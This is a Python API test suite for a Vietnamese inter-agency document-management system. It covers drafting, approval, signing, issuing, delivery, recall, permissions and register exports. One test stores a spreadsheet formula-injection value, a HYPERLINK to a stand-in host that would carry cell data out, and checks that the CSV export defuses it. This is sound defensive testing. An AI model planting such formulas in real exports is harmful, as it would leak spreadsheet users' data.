"""API tests of documents and the inbox, through nginx, checked against the
spec: the whole life of a document across two agencies, numbering, who sees
what, files, search, ETags, idempotency, batch actions and bad input."""
import concurrent.futures
import datetime
import hashlib
import json
import os
import re
import subprocess
import time
import uuid
from urllib.parse import quote

from lib import PORT, VAR, admin, call, clock_moved, doc_id, inbox_all, problem, psql, request, tokens, wait_for

USERS = ["admin", "chutich", "vp.chuyenvien", "stp.giamdoc", "stp.phogiamdoc", "stp.truongphong", "stp.chuyenvien",
         "stp.vanthu", "stttt.giamdoc", "stttt.truongphong", "stttt.chuyenvien", "stttt.vanthu"]
_tok = {}
_ids = {}
PDF = b"%PDF-1.4\n1 0 obj<< /Type /Catalog >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000a49444154789c6300010000050001ba3a6e5a0000000049454e44ae426082")


def tok(user):
    if user not in _tok:
        _tok[user] = tokens(user)["access_token"]
    return _tok[user]


def uid(user):
    if user not in _ids:
        _ids[user] = call("GET", "/api/v1/me", token=tok(user)).json["id"]
    return _ids[user]


def post(user, path, body=None, **kw):
    return call("POST", path, token=tok(user), body={} if body is None else body, **kw)


def ok(r, status=200):
    assert r.status == status, r
    return r.json


def draft(user="stp.chuyenvien", subject="Quyết định về việc kiểm tra văn bản quy phạm pháp luật",
          type_code="QD", recipients=None, **extra):
    body = {"type_code": type_code, "subject": subject,
            "recipients": recipients or [{"agency_code": "000.00.23.H19"}], **extra}
    return ok(post(user, "/api/v1/documents/outgoing", body), 201)


_numbers = iter(range(uuid.uuid4().int % 10**7, 10**8))     # a run of its own, also on a stack reused


def incoming(user="stp.vanthu", **extra):
    """A registered incoming document, each with a number of its own."""
    body = {"type_code": "CV", "subject": "Công văn về việc báo cáo tình hình",
            "number_notation": f"{next(_numbers)}/UBND-VX",
            "doc_date": "2026-11-20", "issuer_name": "Ủy ban nhân dân huyện Xuân Lộc", **extra}
    return ok(post(user, "/api/v1/documents/incoming", body), 201)


def where(doc_ids):
    """{(user, box, reason)} of every demo user whose inbox holds one of doc_ids outside 'done'."""
    found = set()
    for u in USERS:
        for box in ("process", "approve", "info"):
            for it in inbox_all(tok(u), f"&box={box}"):
                if doc_id(it) in doc_ids:
                    found.add((u, box, it["reason"]))
    return found


def test_a_document_lives_its_whole_life_across_two_agencies():
    deadline = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=7)).isoformat()
    d = draft(deadline=deadline)
    doc = d["id"]
    assert d["status"] == "draft" and d["author"]["full_name"] == "Đỗ Minh Khoa"
    assert where({doc}) == set()
    f = ok(call("POST", f"/api/v1/documents/{doc}/files?kind=body&name=du-thao-quyet-dinh.pdf",
                token=tok("stp.chuyenvien"), raw=PDF, content_type="application/pdf"), 201)
    assert f["mime"] == "application/pdf" and f["version"] == 1

    assert ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))["status"] == "in_review"
    assert where({doc}) == {("stp.truongphong", "approve", "head-review")}
    ok(post("stp.truongphong", f"/api/v1/documents/{doc}/approve", {"note": "Đồng ý, trình Giám đốc."}))
    # the director and the deputy director both may review: deputies act as leaders
    assert where({doc}) == {("stp.giamdoc", "approve", "leader-review"), ("stp.phogiamdoc", "approve", "leader-review")}
    assert ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/approve"))["status"] == "approved"
    assert where({doc}) == {("stp.giamdoc", "approve", "sign")}
    signed = ok(call("POST", f"/api/v1/documents/{doc}/files?kind=signed&name=quyet-dinh-da-ky.pdf",
                     token=tok("stp.giamdoc"), raw=PDF + b"% signed\n", content_type="application/pdf"), 201)
    assert ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/sign",
                   {"signed_file_id": signed["id"]}))["status"] == "signed"
    assert where({doc}) == {("stp.vanthu", "process", "issue")}
    issued = ok(post("stp.vanthu", f"/api/v1/documents/{doc}/issue"))
    assert issued["status"] == "issued"
    assert re.fullmatch(r"\d{2,}/QĐ-STP", issued["number_notation"]), issued["number_notation"]
    assert issued["book"]["year"] == datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))).year
    assert issued["signer_name"] == "Lê Hoàng Phúc"

    copy = int(psql(f"SELECT delivered_id FROM document_recipients WHERE document_id = {doc} AND agency_id IS NOT NULL"))
    assert where({doc, copy}) == {("stttt.vanthu", "process", "register")}
    c = ok(call("GET", f"/api/v1/documents/{copy}", token=tok("stttt.vanthu")))
    assert c["status"] == "received" and c["book"] is None and c["source_id"] == doc
    assert c["number_notation"] == issued["number_notation"] and c["issuer_name"] == "Sở Tư pháp"
    assert c["subject"] == issued["subject"] and c["agency"]["name"] == "Sở Khoa học và Công nghệ"
    assert {x["kind"] for x in c["files"]} == {"body", "signed"}
    assert psql(f"SELECT count(*) FROM exchange_outbox WHERE document_id = {doc}") == "0"

    reg = ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/register"))
    assert reg["status"] == "registered" and reg["book"]["number"] >= 1
    assert where({doc, copy}) == {("stttt.vanthu", "process", "present")}
    ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/present",
            {"leader_id": uid("stttt.giamdoc"), "note": "Kính trình Giám đốc."}))
    assert where({doc, copy}) == {("stttt.giamdoc", "process", "direct")}
    due = (datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(days=3)).isoformat()
    dr = ok(post("stttt.giamdoc", f"/api/v1/documents/{copy}/direct", {
        "note": "Giao Phòng CNTT nghiên cứu, tham mưu thực hiện.",
        "assignments": [{"user_id": uid("stttt.chuyenvien"), "role": "main", "deadline": due}]}))
    assert dr["status"] == "directed" and dr["direction_note"].startswith("Giao Phòng CNTT")
    assert where({doc, copy}) == {("stttt.chuyenvien", "process", "main")}
    for action, note in (("read", None), ("report", "Đã triển khai kiểm tra."), ("finish", "Hoàn thành.")):
        body = {"action": action, **({"note": note} if note else {})}
        done = ok(post("stttt.chuyenvien", f"/api/v1/documents/{copy}/progress", body))
    assert done["status"] == "done"
    assert where({doc, copy}) == set()
    actions = [h["action"] for h in done["history"]]
    assert actions == ["received", "registered", "presented", "directed", "read", "report", "finish"], actions
    assert all(h["at"] for h in done["history"])
    orig = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))
    assert [h["action"] for h in orig["history"]] == [
        "drafted", "file-added", "submitted", "approved", "approved", "file-added", "signed", "issued"]
    assert [s["status"] for s in orig["approval_steps"]] == ["approved", "approved"]
    # nothing crossed the other way
    problem(call("GET", f"/api/v1/documents/{doc}", token=tok("stttt.vanthu")), 404, "document-not-found")
    problem(call("GET", f"/api/v1/documents/{copy}", token=tok("stp.vanthu")), 404, "document-not-found")
    assert int(psql(f"SELECT count(*) FROM audit_log WHERE object_type = 'document' AND object_id IN ({doc}, {copy})")) >= 12


def _set_deputies_act(agency_code, value):
    psql(f"UPDATE agencies SET deputies_act_as_leaders = {value} WHERE code = '{agency_code}' AND valid_to IS NULL")


def test_deputies_act_as_leaders_unless_their_agency_says_otherwise():
    """A deputy director (phó giám đốc) reviews, signs on behalf and is among
    those the signing step falls back to; an agency that turns this off
    leaves its deputies out of all three."""
    def to_approved():
        d = draft(subject="Kế hoạch kiểm tra văn bản năm 2027", type_code="KH")["id"]
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
        ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))
        return d

    d = to_approved()
    assert ok(post("stp.phogiamdoc", f"/api/v1/documents/{d}/approve"))["status"] == "approved"
    assert where({d}) == {("stp.phogiamdoc", "approve", "sign")}
    signed = ok(post("stp.phogiamdoc", f"/api/v1/documents/{d}/sign"))
    assert signed["status"] == "signed" and signed["approval_steps"][-1]["decided_by"]["full_name"] == "Trịnh Văn Bảo"

    # a head who reviews last (an agency whose only step is the head's) hands
    # the signing to every leader, deputies included
    psql("UPDATE agencies SET review_steps = '{head}' WHERE code = '000.00.21.H19' AND valid_to IS NULL")
    try:
        d = draft(subject="Công văn trả lời kiến nghị", type_code="CV")["id"]
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
        assert ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))["status"] == "approved"
        assert where({d}) == {("stp.giamdoc", "approve", "sign"), ("stp.phogiamdoc", "approve", "sign")}

        _set_deputies_act("000.00.21.H19", "false")
        d = draft(subject="Công văn về việc rà soát văn bản", type_code="CV")["id"]
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
        ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))
        assert where({d}) == {("stp.giamdoc", "approve", "sign")}
        problem(post("stp.phogiamdoc", f"/api/v1/documents/{d}/sign"), 404)   # not a leader: not even shown
        # the directory tells an app whom a document may be presented to
        agencies = ok(call("GET", "/api/v1/directory/agencies", token=tok("stp.vanthu")))["items"]
        stp = [a for a in agencies if a["code"] == "000.00.21.H19"][0]
        assert {(x["position"], x["acts_as_leader"]) for x in stp["leaders"]} == {("leader", True),
                                                                                 ("deputy_leader", False)}, stp
    finally:
        _set_deputies_act("000.00.21.H19", "true")
        psql("UPDATE agencies SET review_steps = '{head,leader}' WHERE code = '000.00.21.H19' AND valid_to IS NULL")
    d = to_approved()
    assert {u for u, _, _ in where({d})} == {"stp.giamdoc", "stp.phogiamdoc"}
    agencies = ok(call("GET", "/api/v1/directory/agencies", token=tok("stp.vanthu")))["items"]
    assert all(x["acts_as_leader"] for a in agencies if a["code"] == "000.00.21.H19" for x in a["leaders"])


def test_once_signed_the_files_are_frozen_and_the_recipients_get_exactly_what_was_signed():
    d = draft(subject="Quyết định ban hành quy chế phối hợp")["id"]
    body = ok(call("POST", f"/api/v1/documents/{d}/files?kind=body&name=du-thao.pdf", token=tok("stp.chuyenvien"),
                   raw=PDF + b"% body v1\n", content_type="application/pdf"), 201)
    att = ok(call("POST", f"/api/v1/documents/{d}/files?kind=attachment&name=phu-luc.png", token=tok("stp.chuyenvien"),
                  raw=PNG, content_type="image/png"), 201)
    ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
    ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{d}/approve"))
    signed = ok(call("POST", f"/api/v1/documents/{d}/files?kind=signed&name=da-ky.pdf", token=tok("stp.giamdoc"),
                     raw=PDF + b"% signed by the director\n", content_type="application/pdf"), 201)
    ok(post("stp.giamdoc", f"/api/v1/documents/{d}/sign", {"signed_file_id": signed["id"]}))
    before = ok(call("GET", f"/api/v1/documents/{d}", token=tok("stp.giamdoc")))
    # every way of changing the bytes after signing is refused, and nothing changes
    for user, kind, name in (("stp.giamdoc", "signed", "da-ky.pdf"), ("stp.giamdoc", "signed", "ban-khac.pdf"),
                             ("stp.phogiamdoc", "signed", "da-ky.pdf"), ("stp.chuyenvien", "body", "du-thao.pdf"),
                             ("stp.chuyenvien", "attachment", "phu-luc-2.pdf"), ("stp.vanthu", "attachment", "x.pdf")):
        r = call("POST", f"/api/v1/documents/{d}/files?kind={kind}&name={name}", token=tok(user),
                 raw=PDF + b"% changed after signing\n", content_type="application/pdf")
        problem(r, 409, "document-frozen")
    problem(post("stp.giamdoc", f"/api/v1/documents/{d}/sign"), 409, "not-approved")
    r = subprocess.run(["setpriv", "--reuid=qlvb", "--regid=qlvb", "--init-groups", "--", "psql", "-h",
                        f"{VAR}/run", "-p", str(PORT + 10), "-U", "qlvb", "-d", "qlvb", "-Atqc",
                        f"UPDATE document_files SET sha256 = '{'0' * 64}' WHERE id = {signed['id']}"],
                       capture_output=True, text=True)
    assert r.returncode != 0 and "frozen" in r.stderr, r.stderr       # not even behind the API's back
    assert ok(call("GET", f"/api/v1/documents/{d}", token=tok("stp.giamdoc")))["files"] == before["files"]
    issued = ok(post("stp.vanthu", f"/api/v1/documents/{d}/issue"))
    copy = int(psql(f"SELECT delivered_id FROM document_recipients WHERE document_id = {d} AND agency_id IS NOT NULL"))
    got = ok(call("GET", f"/api/v1/documents/{copy}", token=tok("stttt.vanthu")))
    assert sorted((f["kind"], f["sha256"]) for f in got["files"]) == sorted(
        [("body", body["sha256"]), ("attachment", att["sha256"]), ("signed", signed["sha256"])]), got["files"]
    assert issued["status"] == "issued"


def test_drafting_is_for_officials_and_heads_leaders_and_clerks_only_where_allowed_admin_never():
    body = {"type_code": "CV", "subject": "Công văn về việc thử quyền soạn thảo",
            "recipients": [{"agency_code": "000.00.23.H19"}]}
    count = lambda: psql("SELECT count(*) FROM documents WHERE subject = 'Công văn về việc thử quyền soạn thảo'")
    n0 = int(count())
    for user in ("stp.vanthu", "stp.giamdoc", "stp.phogiamdoc", "admin"):
        problem(post(user, "/api/v1/documents/outgoing", body), 403, "may-not-draft")
    assert int(count()) == n0
    for user in ("stp.chuyenvien", "stp.truongphong"):
        ok(post(user, "/api/v1/documents/outgoing", body), 201)
    psql("UPDATE agencies SET leaders_and_clerks_draft = true WHERE code IN ('000.00.21.H19', '000.00.23.H19')"
         " AND valid_to IS NULL")
    try:
        for user in ("stp.vanthu", "stp.giamdoc"):
            ok(post(user, "/api/v1/documents/outgoing", body), 201)
        problem(post("admin", "/api/v1/documents/outgoing", body), 403, "may-not-draft")
    finally:
        psql("UPDATE agencies SET leaders_and_clerks_draft = false WHERE leaders_and_clerks_draft")
    assert int(count()) == n0 + 4


def _issue_doc(type_code="QD", subject="Quyết định về việc kiểm tra", **extra):
    d = draft(subject=subject, type_code=type_code,
              recipients=[{"agency_code": "000.00.23.H19"}, {"name": "Bộ Tư pháp"}], **extra)["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
    ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{d}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{d}/sign"))
    return ok(post("stp.vanthu", f"/api/v1/documents/{d}/issue"))


def test_a_replacement_and_a_correction_are_new_documents_with_their_own_numbers_linked_to_the_original():
    orig = _issue_doc(subject="Quyết định có sai sót nội dung")
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "KH", "subject": "Thay thế", "replaces": orig["id"],
        "recipients": [{"agency_code": "000.00.23.H19"}]}), 422, "invalid-value")        # another form
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "QD", "subject": "Đính chính", "corrects": orig["id"],
        "recipients": [{"agency_code": "000.00.23.H19"}]}), 422, "invalid-value")        # not a công văn
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "CV", "subject": "Cả hai", "corrects": orig["id"], "replaces": orig["id"],
        "recipients": [{"agency_code": "000.00.23.H19"}]}), 400, "invalid-field")
    problem(post("stttt.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "QD", "subject": "Thay văn bản của cơ quan khác", "replaces": orig["id"],
        "recipients": [{"agency_code": "000.00.21.H19"}]}), 422, "invalid-value")
    new = _issue_doc(subject="Quyết định thay thế", replaces=orig["id"])
    assert new["replaces"] == orig["id"] and new["number_notation"] != orig["number_notation"]
    old = ok(call("GET", f"/api/v1/documents/{orig['id']}", token=tok("stp.vanthu")))
    assert old["replaced_by"] == new["id"] and old["history"][-1]["action"] == "replaced"
    assert old["status"] == "issued" and old["number_notation"] == orig["number_notation"]
    fix = _issue_doc(type_code="CV", subject="Công văn đính chính", corrects=new["id"])
    assert fix["corrects"] == new["id"] and re.fullmatch(r"\d+/STP-XDKTVB", fix["number_notation"])
    assert ok(call("GET", f"/api/v1/documents/{new['id']}", token=tok("stp.vanthu")))["history"][-1]["action"] == "corrected"


def test_a_recall_is_ordered_by_the_signer_or_a_leader_carried_out_by_a_clerk_and_withdraws_the_copies():
    doc = _issue_doc(subject="Quyết định phải thu hồi")
    copy = int(psql(f"SELECT delivered_id FROM document_recipients WHERE document_id = {doc['id']} AND agency_id IS NOT NULL"))
    ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/register"))
    ok(post("stttt.vanthu", f"/api/v1/documents/{copy}/present", {"leader_id": uid("stttt.giamdoc")}))
    assert ("stttt.giamdoc", "process", "direct") in where({copy})
    for who in ("stp.chuyenvien", "stp.vanthu", "stp.truongphong"):
        problem(post(who, f"/api/v1/documents/{doc['id']}/recall", {"reason": "x"}), 403, "may-not-recall")
    problem(post("stp.vanthu", f"/api/v1/documents/{doc['id']}/recall/carry-out"), 409, "no-recall-ordered")  # not ordered
    ordered = ok(post("stp.phogiamdoc", f"/api/v1/documents/{doc['id']}/recall",
                      {"reason": "Ban hành sai thẩm quyền"}))
    assert ordered["recall"]["status"] == "ordered" and ordered["status"] == "issued"
    assert ordered["recall"]["ordered_by"]["full_name"] == "Trịnh Văn Bảo"
    assert ("stp.vanthu", "process", "recall") in where({doc["id"]})
    problem(post("stp.giamdoc", f"/api/v1/documents/{doc['id']}/recall", {"reason": "again"}), 409, "not-issued")
    problem(post("stp.giamdoc", f"/api/v1/documents/{doc['id']}/recall/carry-out"), 403, "not-a-clerk")
    done = ok(post("stp.vanthu", f"/api/v1/documents/{doc['id']}/recall/carry-out"))
    assert done["status"] == "recalled" and done["number_notation"] == doc["number_notation"]
    assert done["recall"]["carried_out_by"]["full_name"] == "Ngô Thị Lan"
    # the copy: out of every inbox, marked, its register line kept, no step any more
    assert where({copy}) == set()
    c = ok(call("GET", f"/api/v1/documents/{copy}", token=tok("stttt.vanthu")))
    assert c["recall"]["status"] == "recalled" and c["recall"]["reason"] == "Ban hành sai thẩm quyền"
    assert c["book"]["number"] >= 1 and c["history"][-1]["action"] == "recalled"
    problem(post("stttt.giamdoc", f"/api/v1/documents/{copy}/direct", {"note": "x", "assignments": [
        {"user_id": uid("stttt.chuyenvien"), "role": "main"}]}), 409, "document-recalled")
    problem(post("stp.vanthu", f"/api/v1/documents/{doc['id']}/recall/carry-out"), 409, "document-recalled")
    assert psql(f"SELECT count(*) FROM exchange_outbox WHERE document_id = {doc['id']} AND kind = 'recall'") == "1"
    # replacing a recalled document is refused
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "QD", "subject": "Thay", "replaces": doc["id"],
        "recipients": [{"agency_code": "000.00.23.H19"}]}), 422, "invalid-value")


def test_a_recipient_named_twice_is_refused_and_a_document_is_replaced_once():
    problem(post("stp.chuyenvien", "/api/v1/documents/outgoing", {
        "type_code": "CV", "subject": "Hai lần một nơi nhận",
        "recipients": [{"agency_code": "000.00.23.H19"}, {"agency_code": "000.00.23.H19"}]}), 422, "invalid-value")
    orig = _issue_doc(subject="Quyết định được thay hai lần")
    first = draft(subject="Thay thế thứ nhất", replaces=orig["id"])["id"]
    second = draft(subject="Thay thế thứ hai", replaces=orig["id"])["id"]
    for d in (first, second):
        ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
        ok(post("stp.truongphong", f"/api/v1/documents/{d}/approve"))
        ok(post("stp.giamdoc", f"/api/v1/documents/{d}/approve"))
        ok(post("stp.giamdoc", f"/api/v1/documents/{d}/sign"))
    ok(post("stp.vanthu", f"/api/v1/documents/{first}/issue"))
    problem(post("stp.vanthu", f"/api/v1/documents/{second}/issue"), 409, "wrong-state")
    assert ok(call("GET", f"/api/v1/documents/{orig['id']}", token=tok("stp.vanthu")))["replaced_by"] == first


def test_a_deactivated_account_receives_no_work():
    r = admin("create-user", "stp.truongphong2", "Phó Trưởng phòng Thử", "000.00.21.H19", "deputy_head",
              "Phó Trưởng phòng", "", "XDKTVB", stdin="deputy-head-1\n")
    assert r.returncode == 0, r.stderr
    assert admin("deactivate", "stp.truongphong2").returncode == 0
    d = draft(subject="Dự thảo khi một người nghỉ")["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{d}/submit"))
    assert {u for u, _, _ in where({d})} == {"stp.truongphong"}
    assert psql("SELECT count(*) FROM inbox_items i JOIN users u ON u.id = i.user_id"
                f" WHERE u.username = 'stp.truongphong2' AND i.document_id = {d}") == "0"
    inc = incoming(subject="Công văn giao cho người đã nghỉ")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    gone = int(psql("SELECT id FROM users WHERE username = 'stp.truongphong2'"))
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "x", "assignments": [
        {"user_id": gone, "role": "main"}]}), 422, "invalid-value")


def test_registers_export_their_ten_columns_as_csv_with_a_bom_and_as_xlsx():
    import io
    import zipfile
    today = datetime.datetime.now(datetime.timezone(datetime.timedelta(hours=7))).date().isoformat()
    reg = incoming(subject="Công văn về sổ đăng ký, có dấu phẩy", issuer_name="Bộ Nội vụ")
    out = _issue_doc(subject="Quyết định ghi vào sổ văn bản đi")
    r = call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.vanthu"))
    assert r.status == 200 and r.headers["content-type"].startswith("text/csv"), r
    assert r.body.startswith(b"\xef\xbb\xbf") and "attachment" in r.headers["content-disposition"]
    lines = r.body[3:].decode("utf-8").split("\r\n")
    import csv
    rows = list(csv.reader(lines[:-1]))
    assert rows[0][:2] == ["Ngày đến", "Số đến"] and len(rows[0]) == 10
    mine = [x for x in rows[1:] if x[1] == str(reg["book"]["number"])]
    assert mine and mine[0][2] == "Bộ Nội vụ" and mine[0][5] == "Công văn: Công văn về sổ đăng ký, có dấu phẩy", mine
    r = call("GET", f"/api/v1/registers/out?from={today}&to={today}&format=xlsx", token=tok("stp.giamdoc"))
    assert r.status == 200 and r.body[:2] == b"PK", r.headers
    with zipfile.ZipFile(io.BytesIO(r.body)) as z:
        strings = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert out["number_notation"] in strings and "Số, ký hiệu văn bản" in strings
    # text a spreadsheet would run as a formula is shown as text
    incoming(subject="Công văn có tên nơi gửi lạ", issuer_name='=HYPERLINK("http://x.example/?"&A1,"Mở")')
    r = call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.vanthu"))
    rows = list(csv.reader(r.body[3:].decode("utf-8").split("\r\n")[:-1]))
    assert any(x[2] == '\'=HYPERLINK("http://x.example/?"&A1,"Mở")' for x in rows), rows[-1]
    assert not any(x[2].startswith("=") for x in rows)
    problem(call("GET", f"/api/v1/registers/in?from={today}&to={today}", token=tok("stp.chuyenvien")), 403, "forbidden")
    for bad in (f"from={today}", f"from={today}&to=2026-02-30", f"from={today}&to={today}&format=pdf",
                "from=2026-12-31&to=2026-01-01"):
        problem(call("GET", f"/api/v1/registers/in?{bad}", token=tok("stp.vanthu")), 400, "invalid-parameter")
    problem(call("GET", f"/api/v1/registers/sideways?from={today}&to={today}", token=tok("stp.vanthu")), 404)


def test_external_recipients_go_to_the_exchange_outbox():
    d = draft(type_code="CV", subject="Công văn gửi Bộ Tư pháp",
              recipients=[{"name": "Bộ Tư pháp", "code": "000.00.00.G10"}])
    doc = d["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    ok(post("stp.truongphong", f"/api/v1/documents/{doc}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/approve"))
    ok(post("stp.giamdoc", f"/api/v1/documents/{doc}/sign"))
    issued = ok(post("stp.vanthu", f"/api/v1/documents/{doc}/issue"))
    # a công văn has no type abbreviation: number/AGENCY-UNIT
    assert re.fullmatch(r"\d{2,}/STP-XDKTVB", issued["number_notation"]), issued["number_notation"]
    assert psql(f"SELECT count(*) FROM exchange_outbox WHERE document_id = {doc} AND status = 'pending'") == "1"
    assert issued["recipients"] == [{"agency_code": None, "name": "Bộ Tư pháp", "external": True}]


def test_returned_draft_goes_back_to_its_author_and_can_be_resubmitted():
    doc = draft(subject="Kế hoạch kiểm tra năm 2027", type_code="KH")["id"]
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    problem(post("stp.truongphong", f"/api/v1/documents/{doc}/return", {}), 400, "invalid-field")
    r = ok(post("stp.truongphong", f"/api/v1/documents/{doc}/return", {"reason": "Bổ sung căn cứ pháp lý."}))
    assert r["status"] == "returned"
    assert where({doc}) == {("stp.chuyenvien", "process", "returned")}
    problem(post("stp.truongphong", f"/api/v1/documents/{doc}/approve"), 409, "not-in-review")
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    assert where({doc}) == {("stp.truongphong", "approve", "head-review")}
    steps = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))["approval_steps"]
    assert [(s["round"], s["step"], s["status"]) for s in steps] == [
        (1, "head", "returned"), (1, "leader", "waiting"), (2, "head", "pending"), (2, "leader", "waiting")]


def test_steps_taken_by_the_wrong_person_or_in_the_wrong_state_are_refused_and_change_nothing():
    doc = draft(subject="Báo cáo công tác tư pháp", type_code="BC")["id"]
    before = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))["version"]
    problem(post("stp.vanthu", f"/api/v1/documents/{doc}/submit"), 403, "not-the-author")
    problem(post("stp.truongphong", f"/api/v1/documents/{doc}/submit"), 404)      # cannot even see it
    problem(post("stp.chuyenvien", f"/api/v1/documents/{doc}/approve"), 409, "not-in-review")
    problem(post("stp.giamdoc", f"/api/v1/documents/{doc}/sign"), 409, "not-approved")
    problem(post("stp.vanthu", f"/api/v1/documents/{doc}/issue"), 409, "not-signed")
    problem(post("stp.chuyenvien", f"/api/v1/documents/{doc}/issue"), 403, "not-a-clerk")
    ok(post("stp.chuyenvien", f"/api/v1/documents/{doc}/submit"))
    problem(post("stp.giamdoc", f"/api/v1/documents/{doc}/approve"), 403, "not-your-review")   # the head's step
    problem(post("stttt.giamdoc", f"/api/v1/documents/{doc}/approve"), 404)               # other agency
    after = ok(call("GET", f"/api/v1/documents/{doc}", token=tok("stp.chuyenvien")))
    assert after["version"] == before + 1 and after["status"] == "in_review"   # only the submit
    inc = incoming()["id"]
    problem(post("stp.chuyenvien", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}), 404)
    problem(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.chuyenvien")}),
            422, "invalid-value")
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {
        "note": "x", "assignments": [{"user_id": uid("stttt.chuyenvien"), "role": "main"}]}), 422, "invalid-value")
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {
        "note": "x", "assignments": [{"user_id": uid("stp.chuyenvien"), "role": "info"}]}), 422, "invalid-value")
    problem(post("stp.vanthu", f"/api/v1/documents/{inc}/direct", {
        "note": "x", "assignments": [{"user_id": uid("stp.chuyenvien"), "role": "main"}]}), 403, "not-a-leader")
    assert ok(call("GET", f"/api/v1/documents/{inc}", token=tok("stp.giamdoc")))["status"] == "presented"


def test_leader_reassigns_and_assignees_ask_back():
    inc = incoming(subject="Giấy mời họp triển khai chuyển đổi số", type_code="GM")["id"]
    ok(post("stp.vanthu", f"/api/v1/documents/{inc}/present", {"leader_id": uid("stp.giamdoc")}))
    ok(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Đ/c Hương dự họp.", "assignments": [
        {"user_id": uid("stp.truongphong"), "role": "main"},
        {"user_id": uid("stp.chuyenvien"), "role": "info"}]}))
    assert where({inc}) == {("stp.truongphong", "process", "main"), ("stp.chuyenvien", "info", "info")}
    ok(post("stp.truongphong", f"/api/v1/documents/{inc}/progress", {"action": "ask", "note": "Xin ý kiến cử người khác?"}))
    assert ("stp.giamdoc", "process", "question") in where({inc})
    d = ok(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Giao đ/c Khoa dự họp.", "assignments": [
        {"user_id": uid("stp.chuyenvien"), "role": "main"}]}))
    assert where({inc}) == {("stp.chuyenvien", "process", "main")}
    assert [(a["user"]["id"], a["active"]) for a in d["assignments"]] == [
        (uid("stp.truongphong"), False), (uid("stp.chuyenvien"), False), (uid("stp.chuyenvien"), True)]
    assert d["history"][-1]["action"] == "reassigned"
    problem(post("stp.truongphong", f"/api/v1/documents/{inc}/progress", {"action": "finish"}), 403, "not-assigned")
    # a deadline that has passed shows as overdue, and in the overdue filter
    past = (datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(hours=1)).isoformat()
    ok(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Khẩn trương.", "assignments": [
        {"user_id": uid("stp.chuyenvien"), "role": "main", "deadline": past}]}))
    late = ok(call("GET", "/api/v1/inbox?box=process&overdue=true&limit=100", token=tok("stp.chuyenvien")))["items"]
    assert [i["overdue"] for i in late if doc_id(i) == inc] == [True]
    assert ok(call("GET", "/api/v1/inbox/counts", token=tok("stp.chuyenvien")))["process"]["overdue"] >= 1
    problem(post("stp.chuyenvien", f"/api/v1/documents/{inc}/progress", {"action": "report"}), 400, "invalid-field")
    # a unit instead of a person: its heads receive it
    unit = int(psql("SELECT id FROM units WHERE abbr = 'XDKTVB' AND agency_id = (SELECT id FROM agencies WHERE code = '000.00.21.H19')"))
    d = ok(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "Giao Phòng XDKTVB.", "assignments": [
        {"unit_id": unit, "role": "main"}]}))
    assert [(a["user"]["id"], a["unit_id"]) for a in d["assignments"] if a["active"]] == [(uid("stp.truongphong"), unit)]
    assert where({inc}) == {("stp.truongphong", "process", "main")}
    other_unit = int(psql("SELECT id FROM units WHERE agency_id = (SELECT id FROM agencies WHERE code = '000.00.23.H19') LIMIT 1"))
    problem(post("stp.giamdoc", f"/api/v1/documents/{inc}/direct", {"note": "x", "assignments": [
        {"unit_id": other_unit, "role": "main"}]}), 422, "invalid-value")
